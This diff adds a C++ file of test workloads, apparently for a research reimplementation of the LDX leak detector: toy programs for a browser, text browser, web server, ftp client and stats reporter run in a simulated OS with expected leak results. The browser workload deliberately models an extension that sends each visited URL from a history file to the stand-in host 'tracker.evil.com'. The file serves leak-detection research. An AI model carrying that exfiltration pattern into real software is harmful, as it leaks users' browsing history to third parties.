@@ -1,0 +1,485 @@
+/**
+ * @file
+ * Network / system workloads (the leak-detection set of Table 1):
+ * a browser with a URL-leaking extension (the Firefox/ShowIP case
+ * study), a text browser, a web server, an ftp client, and a system
+ * statistics reporter.
+ */
+#include "workloads/workloads.h"
+
+#include "support/prng.h"
+
+namespace ldx::workloads {
+
+namespace {
+
+using core::SourceSpec;
+
+core::SinkConfig
+netSinks()
+{
+    core::SinkConfig s;
+    s.net = true;
+    s.file = false;
+    s.console = false;
+    return s;
+}
+
+// ------------------------------------------------------------ firefox
+// Event-loop "browser": loads pages named by an input script; the
+// ShowIP-style extension forwards every visited URL to a tracker
+// host. The URL (derived from the secret history file) leaks.
+const char *kFirefox = R"(
+char history[512];
+char page[2048];
+
+int loadPage(char *url, int len) {
+    int s = socket();
+    if (connect(s, "web.example.com") < 0) { return 0 - 1; }
+    send(s, url, len);
+    int n = recv(s, page, 2047);
+    close(s);
+    return n;
+}
+
+int extensionShowIp(char *url, int len) {
+    int s = socket();
+    if (connect(s, "tracker.evil.com") < 0) { return 0 - 1; }
+    send(s, url, len);
+    char ip[64];
+    int n = recv(s, ip, 63);
+    close(s);
+    return n;
+}
+
+int main() {
+    int fd = open("/history.txt", 0);
+    int n = read(fd, history, 511);
+    close(fd);
+    history[n] = 0;
+    int i = 0;
+    int events = 0;
+    while (i < n) {
+        int e = i;
+        while (e < n && history[e] != '\n') { e = e + 1; }
+        int len = e - i;
+        if (len > 0) {
+            loadPage(history + i, len);
+            extensionShowIp(history + i, len);
+            events = events + 1;
+        }
+        i = e + 1;
+    }
+    char eb[16];
+    itoa(events, eb);
+    print(eb, strlen(eb));
+    return 0;
+}
+)";
+
+Workload
+makeFirefox()
+{
+    Workload w;
+    w.name = "firefox";
+    w.category = Category::NetSys;
+    w.description =
+        "event-loop browser with a URL-forwarding extension (ShowIP)";
+    w.source = kFirefox;
+    w.world = [](int scale) {
+        os::WorldSpec spec;
+        std::string hist;
+        for (int i = 0; i < 3 * scale; ++i)
+            hist += "site" + std::to_string(i) + ".example/page\n";
+        spec.files["/history.txt"] = hist;
+        os::PeerScript web;
+        for (int i = 0; i < 3 * scale; ++i)
+            web.responses.push_back("<html>page " + std::to_string(i) +
+                                    "</html>");
+        spec.peers["web.example.com"] = web;
+        os::PeerScript tracker;
+        for (int i = 0; i < 3 * scale; ++i)
+            tracker.responses.push_back("10.0.0.1");
+        spec.peers["tracker.evil.com"] = tracker;
+        return spec;
+    };
+    w.sources = {SourceSpec::file("/history.txt", 4)};
+    w.sinks = netSinks();
+    w.mutationCases = {
+        // URL byte reaches the tracker verbatim.
+        {"leak", {SourceSpec::file("/history.txt", 4)}, true},
+    };
+    return w;
+}
+
+// --------------------------------------------------------------- lynx
+// Text browser: fetches a page, renders it (strips tags), optionally
+// sends the cookie from the jar. Mutating the cookie leaks; mutating
+// the render width does not reach the network.
+const char *kLynx = R"(
+char pagebuf[4096];
+char rendered[4096];
+
+int main() {
+    char cookie[64];
+    int cf = open("/cookies.txt", 0);
+    int clen = read(cf, cookie, 63);
+    close(cf);
+    char wbuf[8];
+    getenv("COLUMNS", wbuf, 8);
+    int width = atoi(wbuf);
+    if (width < 20) { width = 20; }
+
+    int s = socket();
+    if (connect(s, "news.example.com") < 0) { return 1; }
+    send(s, "GET / HTTP/1.0\n", 15);
+    if (clen > 0) {
+        send(s, cookie, clen);
+    }
+    int n = recv(s, pagebuf, 4095);
+    close(s);
+
+    int o = 0;
+    int col = 0;
+    int intag = 0;
+    for (int i = 0; i < n; i = i + 1) {
+        if (pagebuf[i] == '<') { intag = 1; }
+        if (intag == 0) {
+            rendered[o] = pagebuf[i];
+            o = o + 1;
+            col = col + 1;
+            if (col >= width) {
+                rendered[o] = '\n';
+                o = o + 1;
+                col = 0;
+            }
+        }
+        if (pagebuf[i] == '>') { intag = 0; }
+    }
+    int out = open("/render.txt", 1);
+    write(out, rendered, o);
+    close(out);
+    return 0;
+}
+)";
+
+Workload
+makeLynx()
+{
+    Workload w;
+    w.name = "lynx";
+    w.category = Category::NetSys;
+    w.description = "text browser sending a cookie header";
+    w.source = kLynx;
+    w.world = [](int scale) {
+        os::WorldSpec spec;
+        spec.files["/cookies.txt"] = "session=abcdef123456";
+        spec.env["COLUMNS"] = "40";
+        std::string page = "<html><body>";
+        Prng prng(0x2002);
+        for (int i = 0; i < 20 * scale; ++i) {
+            page += "<p>paragraph " + std::to_string(i) + " ";
+            for (int k = 0; k < 16; ++k)
+                page += static_cast<char>('a' + prng.below(26));
+            page += "</p>";
+        }
+        page += "</body></html>";
+        spec.peers["news.example.com"].responses = {page};
+        return spec;
+    };
+    w.sources = {SourceSpec::file("/cookies.txt", 10)};
+    w.sinks = netSinks();
+    w.mutationCases = {
+        // Cookie bytes go out on the wire.
+        {"leak", {SourceSpec::file("/cookies.txt", 10)}, true},
+        // Render width only affects the local file, not the network.
+        {"noleak", {SourceSpec::env("COLUMNS", 0)}, false},
+    };
+    return w;
+}
+
+// -------------------------------------------------------------- nginx
+// Web server: serves /site/<path> for each inbound request; the
+// server identity banner comes from the config file.
+const char *kNginx = R"(
+char conf[128];
+char req[512];
+char body[2048];
+char resp[4096];
+int verbose;
+
+int serveOne(int c) {
+    int n = recv(c, req, 511);
+    if (n <= 0) { close(c); return 0; }
+    req[n] = 0;
+    // Path begins after "GET ".
+    char path[128];
+    int p = 0;
+    while (p + 4 < n && req[p + 4] != ' ' && req[p + 4] != '\n' &&
+           p < 120) {
+        path[p] = req[p + 4];
+        p = p + 1;
+    }
+    path[p] = 0;
+    char full[160];
+    strcpy(full, "/site");
+    strcat(full, path);
+    int o = 0;
+    int fd = open(full, 0);
+    if (fd < 0) {
+        strcpy(resp, "404 ");
+        o = 4;
+    } else {
+        int blen = read(fd, body, 2047);
+        close(fd);
+        strcpy(resp, "200 server=");
+        o = 11;
+        int ci = 0;
+        while (conf[ci] != 0 && conf[ci] != '\n') {
+            resp[o] = conf[ci];
+            o = o + 1;
+            ci = ci + 1;
+        }
+        resp[o] = '\n';
+        o = o + 1;
+        for (int i = 0; i < blen; i = i + 1) {
+            resp[o] = body[i];
+            o = o + 1;
+        }
+    }
+    send(c, resp, o);
+    close(c);
+    if (verbose == 1) {
+        int lg = open("/debug.log", 2);
+        write(lg, req, n);
+        close(lg);
+    }
+    return 1;
+}
+
+int main() {
+    int cf = open("/nginx.conf", 0);
+    int clen = read(cf, conf, 127);
+    close(cf);
+    conf[clen] = 0;
+    verbose = 0;
+    for (int i = 0; i + 1 < clen; i = i + 1) {
+        if (conf[i] == '\n' && conf[i + 1] == 'v') { verbose = 1; }
+    }
+    int s = socket();
+    listen(s, 80);
+    int served = 0;
+    while (1) {
+        int c = accept(s);
+        if (c < 0) { break; }
+        served = served + serveOne(c);
+    }
+    int lg = open("/access.log", 2);
+    char lb[16];
+    itoa(served, lb);
+    write(lg, lb, strlen(lb));
+    close(lg);
+    return 0;
+}
+)";
+
+Workload
+makeNginx()
+{
+    Workload w;
+    w.name = "nginx";
+    w.category = Category::NetSys;
+    w.description = "web server echoing its config banner";
+    w.source = kNginx;
+    w.world = [](int scale) {
+        os::WorldSpec spec;
+        spec.files["/nginx.conf"] = "edge-7\nu";
+        Prng prng(0x2003);
+        for (int i = 0; i < 4; ++i) {
+            std::string content;
+            for (int k = 0; k < 100 * scale; ++k)
+                content += static_cast<char>('a' + prng.below(26));
+            spec.files["/site/p" + std::to_string(i)] = content;
+        }
+        for (int i = 0; i < 4 * scale; ++i) {
+            spec.incoming.push_back(
+                {"GET /p" + std::to_string(i % 4) + " HTTP/1.0\n"});
+        }
+        return spec;
+    };
+    w.sources = {SourceSpec::file("/nginx.conf", 0)};
+    w.sinks = netSinks();
+    w.mutationCases = {
+        // The banner is sent in every response.
+        {"leak", {SourceSpec::file("/nginx.conf", 0)}, true},
+        // 'u' -> 'v' turns on verbose debug logging: many extra file
+        // syscalls per request, but the network output is unchanged.
+        // TightLip cannot realign past the burst; LDX can.
+        {"noleak", {SourceSpec::file("/nginx.conf", 7)}, false},
+    };
+    return w;
+}
+
+// -------------------------------------------------------------- tnftp
+// FTP client: logs in with credentials from /netrc, then downloads a
+// file and stores it locally.
+const char *kTnftp = R"(
+char netrc[64];
+char filebuf[4096];
+
+int main() {
+    int nf = open("/netrc", 0);
+    int nl = read(nf, netrc, 63);
+    close(nf);
+    netrc[nl] = 0;
+
+    int s = socket();
+    if (connect(s, "ftp.example.com") < 0) { return 1; }
+    char hello[64];
+    recv(s, hello, 63);
+    send(s, "USER ", 5);
+    int u = 0;
+    while (netrc[u] != 0 && netrc[u] != ':') { u = u + 1; }
+    send(s, netrc, u);
+    recv(s, hello, 63);
+    send(s, "PASS ", 5);
+    send(s, netrc + u + 1, strlen(netrc + u + 1));
+    recv(s, hello, 63);
+    send(s, "RETR data.bin", 13);
+    int total = 0;
+    int n = recv(s, filebuf, 4095);
+    while (n > 0) {
+        total = total + n;
+        int out = open("/download.bin", 2);
+        write(out, filebuf, n);
+        close(out);
+        n = recv(s, filebuf, 4095);
+    }
+    close(s);
+    char tb[16];
+    itoa(total, tb);
+    print(tb, strlen(tb));
+    return 0;
+}
+)";
+
+Workload
+makeTnftp()
+{
+    Workload w;
+    w.name = "tnftp";
+    w.category = Category::NetSys;
+    w.description = "ftp client sending credentials from /netrc";
+    w.source = kTnftp;
+    w.world = [](int scale) {
+        os::WorldSpec spec;
+        spec.files["/netrc"] = "alice:hunter2";
+        os::PeerScript ftp;
+        ftp.responses = {"220 ready", "331 user ok", "230 logged in"};
+        Prng prng(0x2004);
+        for (int i = 0; i < 2 * scale; ++i) {
+            std::string chunk;
+            for (int k = 0; k < 512; ++k)
+                chunk += static_cast<char>('0' + prng.below(10));
+            ftp.responses.push_back(chunk);
+        }
+        spec.peers["ftp.example.com"] = ftp;
+        return spec;
+    };
+    w.sources = {SourceSpec::file("/netrc", 8)};
+    w.sinks = netSinks();
+    w.mutationCases = {
+        // Password bytes are sent to the server.
+        {"leak", {SourceSpec::file("/netrc", 8)}, true},
+    };
+    return w;
+}
+
+// ------------------------------------------------------------ sysstat
+// Statistics reporter: reads /proc-style counters, aggregates, and
+// writes a report file (file sinks for this non-network program).
+const char *kSysstat = R"(
+char raw[2048];
+
+int main() {
+    int total = 0;
+    int peak = 0;
+    int samples = 0;
+    int fd = open("/proc/stat", 0);
+    int n = read(fd, raw, 2047);
+    close(fd);
+    int i = 0;
+    while (i < n) {
+        int v = 0;
+        while (i < n && raw[i] >= '0' && raw[i] <= '9') {
+            v = v * 10 + raw[i] - '0';
+            i = i + 1;
+        }
+        i = i + 1;
+        total = total + v;
+        if (v > peak) { peak = v; }
+        samples = samples + 1;
+    }
+    char ib[8];
+    getenv("INTERVAL", ib, 8);
+    int interval = atoi(ib);
+    if (interval < 1) { interval = 1; }
+    int rate = 0;
+    if (samples > 0) { rate = total / (samples * interval); }
+    int out = open("/report.txt", 1);
+    char b[24];
+    itoa(rate, b);
+    write(out, b, strlen(b));
+    write(out, " ", 1);
+    itoa(peak, b);
+    write(out, b, strlen(b));
+    close(out);
+    return 0;
+}
+)";
+
+Workload
+makeSysstat()
+{
+    Workload w;
+    w.name = "sysstat";
+    w.category = Category::NetSys;
+    w.description = "system statistics reporter over /proc counters";
+    w.source = kSysstat;
+    w.world = [](int scale) {
+        os::WorldSpec spec;
+        Prng prng(0x2005);
+        std::string stat;
+        for (int i = 0; i < 32 * scale; ++i)
+            stat += std::to_string(prng.below(10000)) + " ";
+        spec.files["/proc/stat"] = stat;
+        spec.env["INTERVAL"] = "5";
+        return spec;
+    };
+    w.sources = {SourceSpec::file("/proc/stat", 0)};
+    core::SinkConfig sinks;
+    sinks.net = false;
+    sinks.file = true;
+    sinks.console = false;
+    w.sinks = sinks;
+    w.mutationCases = {
+        // Counter bytes flow into the report.
+        {"leak", {SourceSpec::file("/proc/stat", 0)}, true},
+        // INTERVAL=5 -> 6 can round the rate to the same value only
+        // rarely; it genuinely changes the report, so the paper-style
+        // no-leak pair for sysstat mutates an ignored trailing byte.
+        {"noleak", {SourceSpec::file("/proc/stat", 4095)}, false},
+    };
+    return w;
+}
+
+} // namespace
+
+std::vector<Workload>
+netsysWorkloads()
+{
+    return {makeFirefox(), makeLynx(), makeNginx(), makeTnftp(),
+            makeSysstat()};
+}
+
+} // namespace ldx::workloads
